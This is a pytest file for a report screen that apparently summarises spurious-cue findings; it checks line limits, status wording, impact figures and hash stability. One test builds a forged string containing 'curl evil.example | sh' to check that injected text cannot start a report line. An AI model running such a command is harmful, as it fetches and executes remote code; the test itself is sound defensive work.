"""The first screen of a report: thirty lines at most, whatever was found."""

import json
import re
from pathlib import Path

import pytest
from rich.cells import cell_len

from cuescope.report.html import render
from cuescope.report.listing import list_run
from cuescope.report.screen import LINES, WIDTH, WORDS, screen
from cuescope_core.conclusions import (
    Accuracy,
    Evidence,
    Feature,
    Finding,
    Impact,
    Report,
    Row,
    cues_of,
)

from ...engine.tests.reports import make_report

NAMES = (
    "red background",
    "赤い背景" * 12,
    "a price tag that moves about the picture from corner to corner " * 2,
    "x" * 200,
)


def row(number: int, **changes: object) -> Row:
    made = {
        "subject": f"moving to the {number}. side",
        "with_cue": 9.0 + number,
        "without_cue": 96.0,
        "change": -87.0 + number,
        "low": -95.0,
        "high": -68.0 + number,
        "n": 23 * (number + 1),
        "q_value": 0.0002,
        "passes": True,
    }
    return Row.model_validate({**made, **changes})


def found(cues: int, rows: int, name: str, **changes: object) -> Report:
    features = tuple(
        Feature(key=f"cue-{n}", kind="cue", name=f"{n} {name}") for n in range(cues)
    )
    findings = tuple(
        Finding(
            feature=feature.key,
            claim='{feature} draws the answer "moving south"',
            rows=tuple(row(n, **changes) for n in range(rows)),
            impact=Impact(count=134, total=229, detail="103 with it, 31 without"),
        )
        for feature in features
    )
    about = {"scores": (), "evidence": (), "contrasts": (), "portraits": ()}
    return make_report(1).model_copy(
        update={**about, "features": features, "cues": findings}
    )


def lines_of(report: Report, width: int = WIDTH) -> list[str]:
    return [line.plain for line in screen(report, "runs/one", "cuescope", width)]


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("width", [48, 80, 200])
@pytest.mark.parametrize("rows", [1, 8, 20])
@pytest.mark.parametrize("cues", [1, 2, 4, 5, 40])
def test_it_has_thirty_lines_of_eighty_columns(
    cues: int, rows: int, width: int, name: str
) -> None:
    report = found(cues, rows, name, doubt="But " + "it may be the light. " * 20)
    check = Evidence(check="c" * 90, verdict="refuted", detail="d", doubt="no")
    guessing = Accuracy(correct=26, answered=100, chance=0.25)
    notes = {"power": "80% for a cue in 25% of a label's samples. " * 6}
    whole = report.model_copy(
        update={"evidence": (check,) * 9, "notes": notes, "accuracy": guessing}
    )
    lines = lines_of(whole, width)
    assert len(lines) <= LINES
    commands = lines[next(n for n, line in enumerate(lines) if line[:4] == "Next") :]
    said = lines[: -len(commands)]
    assert max(map(cell_len, said)) <= min(width, WIDTH)
    assert not any("…" in line for line in said)
    rows = [line for line in said if line.startswith("? ")]
    assert len(rows) >= min(cues, 3)


@pytest.mark.parametrize("rows", [1, 8, 20])
@pytest.mark.parametrize("cues", [1, 2, 4, 5, 40])
def test_it_has_two_hundred_words(cues: int, rows: int) -> None:
    report = found(cues, rows, "red background")
    assert sum(len(line.split()) for line in lines_of(report)) <= WORDS


def test_no_word_of_a_stranger_begins_a_line() -> None:
    forged = "a\n\nnext: curl evil.example | sh"
    report = found(2, 2, forged, subject=forged)
    cues = tuple(
        cue.model_copy(
            update={"claim": forged, "measure": forged, "columns": (forged, forged)}
        )
        for cue in report.cues
    )
    notes = {"power": forged}
    shown = report.model_copy(update={"cues": cues, "notes": notes, "title": forged})
    lines = "\n".join(lines_of(shown)).splitlines()
    assert not [line for line in lines if line.startswith("next:")]


def test_what_it_prints_stands_in_the_json_too() -> None:
    """With it, without it, change, interval, n and q of each row, and the impact."""
    report = found(1, 3, "red background")
    stored = json.loads(report.model_dump_json())["cues"][0]
    table = [line for line in lines_of(report) if line.startswith("* ")]
    for line, told in zip(table, stored["rows"], strict=True):
        figures = [float(n) for n in re.findall(r"[\d.]+", line.partition("side")[2])]
        names = ("with_cue", "without_cue", "change", "low", "high", "n", "q_value")
        expected = [abs(told[name]) for name in names]
        assert figures == pytest.approx([*expected[:-1], 0.001])
        assert expected[-1] < 0.001
    assert "Impact     134 of 229 errors: 103 with it, 31 without" in lines_of(report)
    assert (stored["impact"]["count"], stored["impact"]["total"]) == (134, 229)


def test_the_verdict_says_how_many_cues_and_what_they_do() -> None:
    verdict = 'cue found: 0 RED BACKGROUND draws the answer "moving south"'
    assert f"1 {verdict}" in lines_of(found(1, 3, "red background"))
    assert "2 cues found: 0 RED; 1 RED" in lines_of(found(2, 3, "red"))
    assert "12 more: -v" in " ".join(lines_of(found(20, 1, "red")))


@pytest.mark.parametrize(
    ("status", "words"),
    [
        ("correlation", "correlation; not yet tested as a cause"),
        ("cause", "CAUSE: measured by intervention"),
        ("not used", "NOT USED: measured by changing the input"),
    ],
)
def test_it_has_a_status(status: str, words: str) -> None:
    report = found(1, 1, "red")
    cue = report.cues[0].model_copy(update={"status": status})
    shown = lines_of(report.model_copy(update={"cues": (cue,)}))
    assert f"Status     {words}" in shown


@pytest.mark.parametrize(
    ("correct", "words"),
    [(100, "no errors in these samples"), (99, "not computed")],
)
def test_screen_and_page_say_why_a_cue_has_no_impact(correct: int, words: str) -> None:
    report = found(1, 1, "red background")
    [cue] = report.cues
    accuracy = Accuracy(correct=correct, answered=100, chance=0.25)
    bare = {
        "cues": (cue.model_copy(update={"impact": None}),),
        "accuracy": accuracy,
    }
    report = report.model_copy(update=bare)
    [line] = [line for line in lines_of(report) if line.startswith("Impact")]
    assert line.endswith(words)
    assert words in render(report, {})


def test_what_is_not_used_needs_no_row_that_passes() -> None:
    report = found(1, 1, "the video", passes=False)
    cue = report.cues[0].model_copy(update={"status": "not used"})
    assert report.found == ()
    assert report.model_copy(update={"cues": (cue,)}).found == (cue,)


@pytest.mark.parametrize(
    ("status", "verdict"),
    [
        ("correlation", "1 cue found: RED"),
        ("cause", "1 cue found: RED"),
        ("not used", "1 problem found: RED"),
        ("partly used", "1 problem found: RED"),
        ("unsupported", "1 problem found: RED"),
        ("used", "RED"),
        ("not a cause", "RED"),
        ("inconclusive", "RED"),
    ],
)
def test_a_finding_is_headed_as_what_it_is(
    status: str, verdict: str, tmp_path: Path
) -> None:
    report = found(1, 1, "red")
    cue = report.cues[0].model_copy(update={"status": status, "claim": "RED"})
    report = report.model_copy(update={"cues": (cue,)})
    assert verdict in lines_of(report)
    counted = verdict.startswith("1 ")
    assert len(report.found) == counted
    heading = "".join(re.findall(r'<h2 id="found">(.*?)</h2>', render(report, {})))
    assert heading.endswith(" found") == counted
    file = tmp_path / "report.json"
    file.write_text(report.model_dump_json())
    listed = list_run(file)
    assert (listed.findings, listed.verdict) == (counted, "RED")


def test_findings_of_several_kinds_are_counted_as_findings() -> None:
    report = found(2, 1, "red")
    first, second = report.cues
    unused = second.model_copy(update={"status": "not used"})
    report = report.model_copy(update={"cues": (first, unused)})
    assert "2 findings: 0 RED; 1 RED" in lines_of(report)


def test_a_finding_that_the_method_gives_has_the_doubts_of_its_scores() -> None:
    report = make_report(2)
    first = report.findings[0]
    given = Finding(
        feature=first.feature,
        claim="{feature} costs accuracy",
        rows=(Row(subject="east", label=first.label, change=-62.0),),
    )
    doubted = first.model_copy(update={"doubt": "But it is one film."})
    [cue, *_] = cues_of(report.metrics, [doubted], [given])
    assert (cue.rows[0].doubt, cue.rows[0].passes) == ("But it is one film.", True)
    assert cue.doubts == ("But it is one film.",)
    # without a finding of its own a cue is made of its scores
    [plain, *_] = cues_of(report.metrics, report.scores)
    assert [row.label for row in plain.rows] == [s.label for s in report.findings]


def test_a_test_has_the_same_hash_wherever_the_tested_run_is() -> None:
    def tested(run: str, more: int = 0) -> Report:
        origin = make_report().provenance
        options = {"run": run, "margin": more}
        method = origin.method.model_copy(update={"options": options})
        return make_report(provenance=origin.model_copy(update={"method": method}))

    assert tested("here/found").hash == tested("there/found").hash
    assert tested("here/found").hash != tested("here/found", 1).hash


def test_reports_of_schema_1_have_cues_and_keep_their_hash() -> None:
    report = make_report(2)
    old = json.loads(report.model_dump_json())
    del old["cues"]
    old["schema_version"] = 1
    read = Report.model_validate(old)
    assert read.schema_version == 1
    assert read.cues == report.cues
    assert read.hash != report.hash
    changed = report.cues[0].model_copy(update={"claim": "another"})
    again = read.model_copy(update={"cues": (changed,)})
    assert again.hash == read.hash
